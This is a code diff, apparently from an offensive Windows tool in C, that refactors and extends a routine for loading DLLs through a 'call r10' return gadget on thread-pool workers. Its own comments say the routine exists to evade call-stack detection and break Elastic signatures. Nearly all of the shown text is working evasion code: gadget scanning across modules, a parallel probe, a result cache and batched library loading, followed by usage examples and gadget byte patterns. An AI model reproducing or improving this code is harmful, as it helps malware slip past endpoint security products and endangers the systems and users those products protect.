+            ? find_call_r10_gadget_cached(cache, hMod)
+            : find_call_r10_gadget(hMod);
         if (gadget.address) {
             break;
         }
     }
 
-    if (!gadget.address) {
-        // Fallback to direct call (no evasion)
+    return gadget;
+}
+
+// Parallel probe: one pool work item per module, so the worst case is the
+// slowest load+scan instead of the sum of all of them. The winner is
+// still the first module in list order that has a gadget, whichever scan
+// finishes first: a hit lowers `best`, and lower-priority modules stop
+// loading or scanning at their next check (between chunks). The cache is
+// only read while scans run; new scan results are stored afterwards, in
+// list order.
+
+#define MAX_PROBE_MODULES 8
+
+typedef struct {
+    GADGET_SCAN_CACHE* cache;   // Read-only until every scan is done
+    volatile LONG best;         // Lowest module index with a gadget so far
+} PROBE_SHARED;
+
+typedef struct {
+    PROBE_SHARED* shared;
+    LONG index;
+    PTP_WORK work;
+    GADGET_INFO gadget;
+    BOOL store;                 // Scanned a module the cache did not know
+    MODULE_IDENTITY identity;
+    DWORD rvas[GADGET_PATTERN_COUNT];
+} PROBE_SCAN;
+
+static BOOL probe_cancelled(void* context) {
+    PROBE_SCAN* probe = (PROBE_SCAN*)context;
+    return probe->shared->best < probe->index;
+}
+
+static void probe_scan_module(PROBE_SCAN* probe) {
+    DWORD pattern_index = GADGET_PATTERN_CALL_R10_XOR_ADD28;
+    GADGET_SCAN_CACHE* cache = probe->shared->cache;
+
+    if (probe_cancelled(probe)) return;
+
+    HMODULE hMod = LoadLibraryA(g_gadget_modules[probe->index]);
+    if (!hMod || probe_cancelled(probe)) return;
+
+    PE_VIEW view;
+    if (!pe_view_init(&view, hMod)) return;
+
+    // Scans poll cancellation between chunks
+    if (!cache) {
+        GADGET_CURSOR cursor;
+        GADGET_MATCH match;
+
+        gadget_cursor_from_view(&cursor, &view, &g_gadget_patterns[pattern_index], 1);
+        cursor.abort = probe_cancelled;
+        cursor.abort_context = probe;
+
+        if (gadget_cursor_next(&cursor, &match)) {
+            gadget_from_rva(&view, (DWORD)(match.address - view.base), pattern_index, &probe->gadget);
+        }
+    } else {
+        probe->identity = get_module_identity(&view);
+        SCAN_CACHE_ENTRY* entry = gadget_cache_find(cache, &probe->identity);
+
+        if (entry && !entry->rvas[pattern_index]) return;   // Known miss
+        if (!entry || !gadget_from_rva(&view, entry->rvas[pattern_index],
+                                       pattern_index, &probe->gadget)) {
+            if (!gadget_scan_rvas_ex(&view, probe->rvas, probe_cancelled, probe)) return;
+            probe->store = TRUE;
+            gadget_from_rva(&view, probe->rvas[pattern_index], pattern_index, &probe->gadget);
+        }
+    }
+
+    if (!probe->gadget.address) return;
+
+    // best = min(best, index)
+    LONG best = probe->shared->best;
+    while (probe->index < best) {
+        LONG seen = InterlockedCompareExchange(&probe->shared->best, probe->index, best);
+        if (seen == best) break;
+        best = seen;
+    }
+}
+
+VOID CALLBACK TpProbeCallback(
+    PTP_CALLBACK_INSTANCE Instance,
+    PVOID Context,
+    PTP_WORK Work
+) {
+    probe_scan_module((PROBE_SCAN*)Context);
+}
+
+static GADGET_INFO find_probe_gadget_parallel(GADGET_SCAN_CACHE* cache) {
+    GADGET_INFO gadget = {0};
+    PROBE_SHARED shared;
+    PROBE_SCAN probes[MAX_PROBE_MODULES];
+    LONG count = 0;
+
+    shared.cache = cache;
+    shared.best = MAX_PROBE_MODULES;
+
+    while (count < MAX_PROBE_MODULES && g_gadget_modules[count] != NULL) {
+        memset(&probes[count], 0, sizeof(probes[count]));
+        probes[count].shared = &shared;
+        probes[count].index = count;
+        count++;
+    }
+
+    for (LONG i = 0; i < count; i++) {
+        probes[i].work = CreateThreadpoolWork(TpProbeCallback, &probes[i], NULL);
+        if (probes[i].work) {
+            SubmitThreadpoolWork(probes[i].work);
+        } else {
+            probe_scan_module(&probes[i]);      // No pool object: scan inline
+        }
+    }
+
+    for (LONG i = 0; i < count; i++) {
+        if (probes[i].work) {
+            WaitForThreadpoolWorkCallbacks(probes[i].work, FALSE);
+            CloseThreadpoolWork(probes[i].work);
+        }
+    }
+
+    for (LONG i = 0; i < count; i++) {
+        if (cache && probes[i].store) {
+            gadget_cache_store(cache, &probes[i].identity, probes[i].rvas);
+        }
+    }
+
+    if (shared.best < count) {
+        gadget = probes[shared.best].gadget;
+    }
+
+    return gadget;
+}
+
+static GADGET_INFO find_probe_gadget(GADGET_SCAN_CACHE* cache, DWORD probe_mode) {
+    return probe_mode == PROBE_PARALLEL
+        ? find_probe_gadget_parallel(cache)
+        : find_probe_gadget_sequential(cache);
+}
+
+static void executor_run_calls(GADGET_EXECUTOR_CONTEXT* executor) {
+    for (DWORD i = 0; i < executor->call_count; i++) {
+        GADGET_CALL* call = &executor->calls[i];
+
+        call->result = NULL;
+
+        // gadget_call refuses unusable gadgets; only those fall back
+        if (gadget_max_args(&executor->gadget)) {
+            gadget_call(&executor->gadget, call->function, call->args, call->arg_count, &call->result);
+        } else {
+            // Fallback (no evasion). Extra arguments are harmless in Win64.
+            typedef void* (*CALL_TARGET)(void*, void*, void*, void*, void*, void*, void*, void*);
+            void* const* a = call->args;
+            call->result = ((CALL_TARGET)call->function)(a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7]);
+        }
+    }
+}
+
+VOID CALLBACK TpExecutorCallback(
+    PTP_CALLBACK_INSTANCE Instance,
+    PVOID Context,
+    PTP_WORK Work
+) {
+    executor_run_calls((GADGET_EXECUTOR_CONTEXT*)Context);
+}
+
+// Discover the gadget and create the work object. Without a gadget the
+// executor still works, but calls run directly on the caller's thread.
+// probe_mode is PROBE_SEQUENTIAL or PROBE_PARALLEL.
+BOOL executor_init_ex(GADGET_EXECUTOR_CONTEXT* executor, GADGET_SCAN_CACHE* cache,
+                      DWORD probe_mode) {
+    executor->gadget = find_probe_gadget(cache, probe_mode);
+    executor->calls = NULL;
+    executor->call_count = 0;
+    executor->work = NULL;
+
+    if (!executor->gadget.address) return TRUE;
+
+    executor->work = CreateThreadpoolWork(TpExecutorCallback, executor, NULL);
+    return executor->work != NULL;
+}
+
+BOOL executor_init(GADGET_EXECUTOR_CONTEXT* executor, GADGET_SCAN_CACHE* cache) {
+    return executor_init_ex(executor, cache, PROBE_SEQUENTIAL);
+}
+
+// Run count calls through the gadget on a pool thread; results are written
+// back into calls[i].result
+void executor_run(GADGET_EXECUTOR_CONTEXT* executor, GADGET_CALL* calls, DWORD count) {
+    executor->calls = calls;
+    executor->call_count = count;
+
+    if (executor->work) {
+        SubmitThreadpoolWork(executor->work);
+        WaitForThreadpoolWorkCallbacks(executor->work, FALSE);
+    } else {
+        executor_run_calls(executor);
+    }
+
+    executor->calls = NULL;
+    executor->call_count = 0;
+}
+
+void executor_close(GADGET_EXECUTOR_CONTEXT* executor) {
+    if (executor->work) {
+        WaitForThreadpoolWorkCallbacks(executor->work, TRUE);
+        CloseThreadpoolWork(executor->work);
+        executor->work = NULL;
+    }
+}
+
+// LoadLibraryA through a gadget that zeroes rax still loads the DLL;
+// the handle is then read back with GetModuleHandleA
+static HMODULE executor_loaded_module(GADGET_EXECUTOR_CONTEXT* executor,
+                                      const char* dll_name, void* result) {
+    if (executor->gadget.address && !gadget_preserves_result(&executor->gadget)) {
+        return GetModuleHandleA(dll_name);
+    }
+    return (HMODULE)result;
+}
+
+HMODULE executor_load_library(GADGET_EXECUTOR_CONTEXT* executor, const char* dll_name) {
+    GADGET_CALL call = {0};
+    call.function = (void*)&LoadLibraryA;
+    call.args[0] = (void*)dll_name;
+    call.arg_count = 1;
+
+    executor_run(executor, &call, 1);
+    return executor_loaded_module(executor, dll_name, call.result);
+}
+
+// Load count DLLs in a single submission; returns how many loaded
+#define EXECUTOR_BATCH_MAX 16
+
+DWORD executor_load_libraries(GADGET_EXECUTOR_CONTEXT* executor, const char** dll_names,
+                              HMODULE* modules, DWORD count) {
+    GADGET_CALL calls[EXECUTOR_BATCH_MAX];
+    DWORD loaded = 0;
+
+    for (DWORD done = 0; done < count; ) {
+        DWORD batch = count - done < EXECUTOR_BATCH_MAX ? count - done : EXECUTOR_BATCH_MAX;
+
+        for (DWORD i = 0; i < batch; i++) {
+            GADGET_CALL call = {0};
+            call.function = (void*)&LoadLibraryA;
+            call.args[0] = (void*)dll_names[done + i];
+            call.arg_count = 1;
+            calls[i] = call;
+        }
+
+        executor_run(executor, calls, batch);
+
+        for (DWORD i = 0; i < batch; i++) {
+            modules[done + i] = executor_loaded_module(executor, dll_names[done + i], calls[i].result);
+            if (modules[done + i]) loaded++;
+        }
+
+        done += batch;
+    }
+
+    return loaded;
+}
+
+// ============================================================================
+// HIGH-LEVEL API
+// ============================================================================
+
+// Load library via gadget to evade call stack detection
+// cache may be NULL (always scan). One-shot: callers loading several DLLs
+// should keep a GADGET_EXECUTOR_CONTEXT instead.
+HMODULE evasive_load_library_ex(GADGET_SCAN_CACHE* cache, const char* dll_name,
+                                DWORD probe_mode) {
+    GADGET_EXECUTOR_CONTEXT executor;
+
+    if (!executor_init_ex(&executor, cache, probe_mode)) {
         return LoadLibraryA(dll_name);
     }
 
-    // Execute via thread pool + gadget
-    HMODULE result = (HMODULE)execute_via_threadpool_and_gadget(
-        &gadget,
-        (void*)&LoadLibraryA,
-        (void*)dll_name
-    );
+    HMODULE result = executor_load_library(&executor, dll_name);
+    executor_close(&executor);
 
     return result;
 }
 
+HMODULE evasive_load_library_cached(GADGET_SCAN_CACHE* cache, const char* dll_name) {
+    return evasive_load_library_ex(cache, dll_name, PROBE_SEQUENTIAL);
+}
+
+HMODULE evasive_load_library(const char* dll_name) {
+    return evasive_load_library_cached(NULL, dll_name);
+}
+
 // ============================================================================
 // USAGE EXAMPLES
 // ============================================================================
@@ -257,12 +1145,32 @@ void example_usage(void) {
         // Call stack now contains gadget module instead of standard pattern
     }
 
-    // Example 2: Load multiple DLLs
-    HMODULE hWinhttp = evasive_load_library("winhttp.dll");
-    HMODULE hWininet = evasive_load_library("wininet.dll");
+    // Example 2: Load multiple DLLs with one gadget scan and one submission
+    GADGET_EXECUTOR_CONTEXT executor;
+    const char* dlls[] = { "winhttp.dll", "wininet.dll", "dnsapi.dll" };
+    HMODULE modules[3];
+
+    if (executor_init(&executor, NULL)) {
+        executor_load_libraries(&executor, dlls, modules, 3);
+        executor_close(&executor);
+    }
 
     // All loaded via gadgets, breaking Elastic signatures
 
+    // Example 2b: Reuse scan results across runs
+    GADGET_SCAN_CACHE cache;
+    gadget_cache_load_file(&cache, "gadgets.cache");
+
+    HMODULE hCrypt32 = evasive_load_library_cached(&cache, "crypt32.dll");
+
+    // Example 2c: Probe all candidate modules at once (same gadget as the
+    // sequential probe, lower worst-case latency when early modules miss)
+    HMODULE hBcrypt = evasive_load_library_ex(&cache, "bcrypt.dll", PROBE_PARALLEL);
+
+    if (cache.dirty) {
+        gadget_cache_save_file(&cache, "gadgets.cache");
+    }
+
     // Example 3: Manual gadget usage
     HMODULE dsdmo = LoadLibraryA("dsdmo.dll");
     GADGET_INFO gadget = find_call_r10_gadget(dsdmo);
@@ -325,7 +1233,7 @@ void go(void) {
  *
  * Pattern 1: call r10; ret
  * Bytes: 41 FF D2 C3
- * Stack cleanup: 0
+ * Stack cleanup: 0 (no room for shadow space; gadget_call rejects it)
  *
  * Pattern 2: call r10; add rsp,0x20; ret
  * Bytes: 41 FF D2 48 83 C4 20 C3
@@ -333,7 +1241,7 @@ void go(void) {
  *
  * Pattern 3: call r10; xor eax,eax; add rsp,0x28; ret
  * Bytes: 41 FF D2 33 C0 48 83 C4 28 C3
- * Stack cleanup: 0x28
+ * Stack cleanup: 0x28 (5 arguments; return value zeroed)
  *
  * Finding Gadgets:
  *